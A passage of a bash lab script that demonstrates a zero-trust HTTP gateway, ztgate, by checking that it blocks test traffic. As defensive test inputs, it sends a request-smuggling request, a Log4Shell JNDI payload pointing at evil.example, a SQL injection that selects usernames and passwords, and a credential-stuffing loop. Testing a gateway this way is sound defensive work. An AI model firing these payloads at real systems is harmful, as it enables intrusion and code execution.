	heading "Requests ztgate stops on the wire: the client gets ztgate's 403, the server never sees them"
	local before after
	before=$(wc -l < "$ACCESS_LOG")
	echo "Request smuggling: Content-Length and Transfer-Encoding in one request"
	lab_http 403 POST "$SERVER_URL/api/v1/orders" $'0\r\n\r\n' \
		-H 'Transfer-Encoding: chunked' -H 'Content-Length: 5'
	echo "A WebSocket upgrade (tunnels are denied unless --http-tunnel pass)"
	lab_http 403 GET "$SERVER_URL/api/v1/stream" '' \
		-H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' \
		-H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='
	echo "Obsolete line folding, which two parsers can read differently"
	lab_http 403 GET "$SERVER_URL/api/v1/orders/1" '' -H $'X-Folded: a\r\n b'
	after=$(wc -l < "$ACCESS_LOG")
	((after == before)) || die "nginx logged $((after - before)) request(s) that ztgate should have stopped"
	echo "  nginx's access log did not grow: none of them reached the server"
	echo
	echo "ztgate's events for them (JSON lines, one per decision):"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.reason) | {action, reason, request_id, method, path, client: .flow.src}' |
		sed 's/^/  /'
}

demo_policy() {
	heading "Zero trust: only what the policy allows reaches nginx ($(basename "$LAB_POLICY"))"
	lab_ctl status
	echo
	echo "No route for this path: denied by default"
	lab_http 403 GET "$SERVER_URL/api/v1/internal/metrics"
	echo "A route for this path, but not for this method"
	lab_http 403 DELETE "$SERVER_URL/api/v1/orders/42"
	echo "A route that denies"
	lab_http 403 GET "$SERVER_URL/api/v1/admin/users"
	echo "A Host no service answers to"
	lab_http 403 GET "$SERVER_URL/healthz" '' -H 'Host: intranet.example'
	sleep 0.3
	echo
	echo "ztgate's events for them: which segment, service and route, and why"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.mode) | {action, reason, segment, service, route, method, path}' |
		sed 's/^/  /'

	echo
	echo "Two calls to an endpoint no route describes, then the API inventory (shadow endpoints):"
	lab_http 403 GET "$SERVER_URL/api/v1/invoices/17"
	lab_http 403 GET "$SERVER_URL/api/v1/invoices/18"
	sleep 0.3
	lab_ctl inventory

	heading "ztgatectl explain: the decision path of one request, step by step"
	lab_ctl explain --src "$CLIENT_IP4" --dst "$SERVER_IP4" DELETE /api/v1/orders/42

	heading "A stricter policy, applied live with ztgatectl: the get-user route is gone"
	lab_ctl apply "$ROOT/rules/lab-strict.conf"
	lab_http 403 GET "$SERVER_URL/api/v1/users/alice"
	echo
	lab_ctl rollback
	lab_http 200 GET "$SERVER_URL/api/v1/users/alice"
}

# lab_bearer WANT NAME: the lab token NAME on its request (tokens.json).
lab_bearer() {
	local want=$1 name=$2
	lab_http "$want" "$(token_field "$name" method)" "$SERVER_URL$(token_field "$name" path)" '' \
		-H "Authorization: Bearer $(lab_token "$name")"
}

demo_identity() {
	heading "Identity: JWTs and an API key, verified by ztgate on the wire"
	echo "ztgate's control process fetched issuer lab-idp's keys from nginx over TLS on the management"
	echo "link ($JWKS_URL, CA made at 'up'); lab-hmac's secrets come from a file next to the policy:"
	lab_ctl keys | sed 's/^/  /'
	jq -r '"  nginx (\(.server):\(.port)) served \(.method) \(.uri) -> \(.status) to \(.client) over \(.tls) (\(.cipher)), UA \(.ua)"' \
		"$JWKS_ACCESS_LOG" | tail -n 1

	local path=/api/v1/tenants/acme/orders/7 name alg kid res
	echo
	echo "One token per algorithm, minted by jose (tenant acme, scope orders:read, typ at+jwt):"
	echo "  GET $SERVER_URL$path  Authorization: Bearer <token>"
	for alg in "${LAB_ALGS[@]}"; do
		name=valid-${alg,,}
		kid=$(token_field "$name" kid)
		res=$(nsx "$NS_CLIENT" curl -sS --max-time 5 -A "ztg-lab-demo/1" -o /dev/null -w '%{http_code} %{time_total}' \
			-H "Authorization: Bearer $(lab_token "$name")" "$SERVER_URL$path") ||
			die "curl with the $alg token failed: no answer through the bridge"
		printf '  %-6s kid %-10s %4s-byte token  -> %s  (%s ms)\n' "$alg" "$kid" "$(wc -c <"$IDP_DIR/tokens/$name.jwt")" \
			"${res%% *}" "$(awk -v s="${res#* }" 'BEGIN {printf "%.1f", s * 1000}')"
		[[ ${res%% *} == 200 ]] || die "GET $path with the $alg token: expected HTTP 200, got ${res%% *}"
	done

	echo
	echo "No credentials on a route that needs an identity"
	lab_http 401 GET "$SERVER_URL/api/v1/me"
	echo "An expired token"
	lab_bearer 401 expired
	echo "A token of tenant acme asking for tenant globex's order"
	lab_bearer 403 other-tenant
	echo "A token signed by a key that is not in the JWKS (kid of the real ES256 key)"
	lab_bearer 401 wrong-signature
	echo "The lab's API key (X-API-Key; the policy holds only its SHA-256)"
	lab_http 200 GET "$SERVER_URL/api/v1/me" '' -H "X-API-Key: $LAB_API_KEY"

	echo
	echo "Revocation: jti $(token_field revocable jti) is valid, revoked live, then refused"
	lab_bearer 200 revocable
	lab_ctl revoke jti "$(token_field revocable jti)"
	lab_bearer 401 revocable
	lab_ctl unrevoke jti "$(token_field revocable jti)"
	sleep 0.3
	echo
	echo "ztgate's events for the refusals: why, and who (identity) when it got that far"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.route == "tenant-order" or .route == "me")
		| {reason, detail, route, path, identity: (.identity // null | if . then {verified, issuer, subject, kid} else null end)}
		| with_entries(select(.value != null))' | sed 's/^/  /'
}

demo_behaviour() {
	heading "Automated response: quarantine by an operator, and by the risk score"
	echo "An operator quarantines the API key's identity: its next request is refused, whatever it calls"
	lab_ctl quarantine add identity api-key svc-lab-export --for 600 --reason "demo: the key leaked"
	lab_http 403 GET "$SERVER_URL/api/v1/me" '' -H "X-API-Key: $LAB_API_KEY"
	lab_ctl quarantine list
	lab_ctl quarantine del identity api-key svc-lab-export
	lab_http 200 GET "$SERVER_URL/api/v1/me" '' -H "X-API-Key: $LAB_API_KEY"

	if [[ $LAB_POLICY != "$STAGED_POLICY" ]]; then
		echo "(the credential stuffing part applies a variant of the staged lab policy: skipped with $LAB_POLICY)"
		return 0
	fi
	local conf=$POLICY_DIR/lab-behaviour.conf i code rc
	# An hour's window: the ten failures stay in one (a previous window's count is weighed as if spread evenly).
	sed 's/^services = ($/behaviour = { window = 3600; signals = { auth_failures = 10; }; risk = { quarantine = 60; }; };\n\nservices = (/' \
		"$STAGED_POLICY" >"$conf"
	grep -q '^behaviour = ' "$conf" || die "could not add a behaviour section to $conf"
	echo
	echo "The lab policy plus: behaviour = { window = 3600; signals = { auth_failures = 10; }; risk = { quarantine = 60; }; }"
	echo "(10 failed authentications from one source within the hour's window quarantine it for 60 s), applied live:"
	lab_ctl apply "$conf"
	echo "Credential stuffing: the client tries 10 made-up API keys, one connection each"
	for i in $(seq 10); do
		code=$(nsx "$NS_CLIENT" curl -sS --max-time 5 -A "ztg-lab-demo/1" -o /dev/null -w '%{http_code}' \
			-H "X-API-Key: ztgk_$(openssl rand -hex 24)" "$SERVER_URL/api/v1/me") ||
			die "curl with made-up API key $i failed: no answer through the bridge"
		printf '  key %2d -> %s\n' "$i" "$code"
		[[ $code == 401 ]] || die "made-up API key $i: expected HTTP 401, got $code"
	done
	echo "Its next connection, even to an open route, is dropped: the source is quarantined"
	rc=0
	nsx "$NS_CLIENT" curl -sS --max-time 2 -A "ztg-lab-demo/1" -o /dev/null "$SERVER_URL/healthz" 2>/dev/null || rc=$?
	((rc == 28)) || die "GET /healthz from the quarantined client: curl exit $rc, expected 28 (timeout)"
	echo "  curl: timed out after 2 s (exit 28)"
	lab_ctl quarantine list
	sleep 0.3
	echo
	echo "ztgate's events: the signal with its figures, and the quarantine it led to"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.action == "alert" or .action == "quarantine")
		| {action, reason, src: .flow.src, behaviour: (.behaviour | {scope, figure, current, judged_by, bound, risk, threshold})}' |
		sed 's/^/  /'
	echo
	lab_ctl quarantine del source "$CLIENT_IP4"
	lab_http 200 GET "$SERVER_URL/healthz"
	lab_ctl rollback
}

demo_ipv6() {
	heading "The same over IPv6 ($CLIENT_IP6 -> $SERVER_IP6)"
	lab_http 200 GET "$SERVER_URL6/api/v1/orders/7"
}

demo_signatures() {
	heading "Signatures: the shipped ruleset, matched with Hyperscan before a request is forwarded"
	echo "A JNDI lookup (Log4Shell) in a query argument: a block rule"
	lab_http 403 GET "$SERVER_URL/api/v1/orders/7?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"
	echo "A UNION SELECT in a query argument: scored rules reaching the service's threshold (5)"
	lab_http 403 GET "$SERVER_URL/api/v1/orders/7?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"
	echo "Quotes and SQL-ish words in ordinary text pass"
	lab_http 200 GET "$SERVER_URL/api/v1/orders/7?q=O%27Brien%27s%20union%20of%20selected%20items"
	sleep 0.3
	echo
	echo "ztgate's events: the rule ids and the score"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.reason == "signature" or .reason == "anomaly_score")
		| {reason, path, rules, score}' | sed 's/^/  /'
}

demo_leaks() {
	heading "Response leaks: a card number in a response that has already started"
	local file=$RUN/html/orders-export.json out err rc=0 got size
	size=$(stat -c %s "$file")
	echo "nginx's order export: $size bytes of order records, the last one holding the test card number"
	echo "$LAB_TEST_CARD. Route card-export selects leaks-cards (rule 200101: every candidate number passes"
	echo "a Luhn check first) in block_sets: ztgate drops the segment that completes the number and resets"
	echo "both sides; the segments before it were forwarded already."
	out=$(mktemp) err=$(mktemp)
	printf '%s> GET %s%s\n' "$_c_bold" "$SERVER_URL$LAB_EXPORT_PATH" "$_c_off"
	nsx "$NS_CLIENT" curl -sS --max-time 5 -A "ztg-lab-demo/1" -o "$out" "$SERVER_URL$LAB_EXPORT_PATH" 2>"$err" || rc=$?
	got=$(stat -c %s "$out")
	printf '< %s\n' "$(cat "$err")"
	printf '< %d of %d bytes received; the card number in them: %s\n' "$got" "$size" \
		"$(grep -qF "$LAB_TEST_CARD" "$out" && echo yes || echo no)"
	rm -f -- "$out" "$err"
	((rc != 0 && got < size)) || die "GET $LAB_EXPORT_PATH was not cut off (curl exit $rc, $got of $size bytes)"
	sleep 0.3
	echo
	echo "ztgate's event for it: the route, the rule, the action"
	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.reason == "response_signature") | {action, reason, route, rules}' |
		sed 's/^/  /'
}

demo_ping() {
	heading "ICMP echo through the bridge"
	nsx "$NS_CLIENT" ping -n -c 3 -i 0.2 -W 2 "$SERVER_IP4" || die "ping $SERVER_IP4 through the bridge failed"
	echo
	echo "4000 bytes of echo data over IPv6: three fragments each way, reassembled and inspected by"
	echo "ztgate, then forwarded in the pieces they came in (IPv4 too on af_xdp; on af_packet the"
	echo "kernel reassembles IPv4 before ztgate sees it)"
	nsx "$NS_CLIENT" ping -n -c 3 -i 0.2 -W 2 -s 4000 "$SERVER_IP6" ||
		die "fragmented ping $SERVER_IP6 through the bridge failed"
}

demo_bulk() {
	heading "A 1 MiB download (multi-segment TCP), checked by SHA-256"
	local got want
	want=$(awk '{print $1}' "$RUN/html/blob.sha256")
	echo "> GET $SERVER_URL/blob.bin"
	got=$(nsx "$NS_CLIENT" curl -sS --max-time 10 -A "ztg-lab-demo/1" \
		-w '%{stderr}< HTTP %{http_code}, %{size_download} bytes in %{time_total} s\n' "$SERVER_URL/blob.bin" |
		sha256sum | awk '{print $1}') || die "download of blob.bin failed"
	echo "< sha256 $got"
	[[ $got == "$want" ]] || die "blob.bin arrived changed: sha256 $got, server has $want"
	echo "  matches the server's copy"
}

demo_load() {
	heading "Load: wrk, 1 thread, 8 connections, 5 s, GET /api/v1/orders/1"
	local out
	out=$(mktemp)
	echo "> wrk -t1 -c8 -d5s --latency $SERVER_URL/api/v1/orders/1"
	if ! nsx "$NS_CLIENT" wrk -t1 -c8 -d5s --latency -H 'User-Agent: ztg-lab-demo/wrk' \
		"$SERVER_URL/api/v1/orders/1" >"$out" 2>&1; then
		cat "$out"
		rm -f -- "$out"
		die "wrk failed"
	fi
	cat "$out"
	parse_wrk "$out" || { rm -f -- "$out"; die "could not read wrk's output"; }
	rm -f -- "$out"
	((WRK_SOCKET_ERRORS == 0)) || die "wrk saw $WRK_SOCKET_ERRORS socket errors"
	((WRK_NON2XX == 0)) || die "wrk saw $WRK_NON2XX non-2xx/3xx responses"
	echo "  $WRK_REQUESTS requests, $WRK_RPS requests/s, no socket errors, no error responses"
}

demo_server_view() {
	heading "What the server saw (nginx access log, by method, path and status)"
	jq -rs 'group_by([.method, (.uri | sub("/[0-9]+$"; "/{id}")), .status])
	        | map("  \(length | tostring | (" " * (8 - length)) + .)  \(.[0].method) \(.[0].uri | sub("/[0-9]+$"; "/{id}")) -> \(.[0].status)")
	        | .[]' "$ACCESS_LOG"
	echo "  from client(s): $(jq -rs 'map(.client) | unique | join(", ")' "$ACCESS_LOG")"
}

# Demo steps after ztgate is up, in order. To add one, write a demo_*
# function and add its name here.
DEMO_SECTIONS=(demo_requests demo_denied demo_policy demo_identity demo_behaviour demo_signatures demo_leaks demo_ipv6 demo_ping demo_bulk demo_load demo_server_view)

demo_cleanup() {
	local rc=$?
	trap - EXIT INT TERM
	if ((rc == 130)); then
		echo
		warn "demo interrupted; tearing the lab down"
	elif ((rc != 0)); then
		echo
		warn "demo failed (exit $rc); tearing the lab down"
		[[ -s $DUT_LOG ]] && log_tail "$DUT_LOG" 20 >&2
	fi
	heading "Teardown"
	lab_down || true
	exit "$rc"
}

lab_demo() {
	need_root
	trap demo_cleanup EXIT
	trap 'exit 130' INT TERM

	heading "Dependencies (scripts/setup.sh)"
	"$ROOT/scripts/setup.sh" || die "scripts/setup.sh failed"

	heading "Build ($BUILD)"
	if [[ ! -f $BUILD/build.ninja ]]; then
		meson setup "$BUILD" "$ROOT" || die "meson setup $BUILD failed"
	fi
	ninja -C "$BUILD" || die "ninja -C $BUILD failed"
	need_tools curl wrk jq ping

	heading "Lab topology"
	lab_up
	cat <<EOF

  $NS_CLIENT              $NS_DUT (ztgate)               $NS_SERVER
  $HOST_IF $CLIENT_IP4 --- $DUT_IF_CLIENT [port 0]   [port 1] $DUT_IF_SERVER --- $HOST_IF $SERVER_IP4
       $CLIENT_IP6                                            $SERVER_IP6  nginx :80
                          $MGMT_IF_DUT $MGMT_DUT_IP4/$MGMT_PREFIX4 ------------- $MGMT_IF_SERVER $MGMT_SERVER_IP4/$MGMT_PREFIX4
                          (control process: JWKS fetch)       nginx https :$JWKS_PORT /jwks.json

  one L2 segment; the DUT has no address on it: ztgate bridges port 0 <-> port 1;
  the management link is not bridged: ztgate's control process fetches the lab IdP's keys over it
  policy: $LAB_POLICY
EOF

	heading "Start ztgate in $NS_DUT"
	ztgate_start

	local section
	for section in "${DEMO_SECTIONS[@]}"; do
		"$section"
	done

	heading "Stop ztgate and read its counters"
	ztgate_stop || die "ztgate did not stop cleanly"
	echo
	info "demo finished: traffic crossed ztgate in both directions"
}

# --- main -------------------------------------------------------------------------

# lab_ctl ARGS...: ztgatectl against the lab's ztgate
lab_ctl() {
	[[ -x $ZTG_CTL ]] || die "no ztgatectl at $ZTG_CTL: build it (ninja -C build) or set ZTG_CTL"
	"$ZTG_CTL" --socket "$CONTROL_SOCKET" "$@"
}

main() {
	local sub=${1:-}
	[[ -n $sub ]] || { usage >&2; exit 2; }
	shift
	case "$sub" in
	up) lab_up "$@" ;;
	down) lab_down "$@" ;;
	start-ztgate) ztgate_start "$@" ;;
	ctl) lab_ctl "$@" ;;
	stop-ztgate) ztgate_stop "$@" ;;
	status) lab_status ;;
	token) lab_token "$@" ;;
	demo) lab_demo ;;
	-h | --help | help) usage ;;
	*) usage >&2; die "unknown command '$sub'" ;;
	esac
}

main "$@"
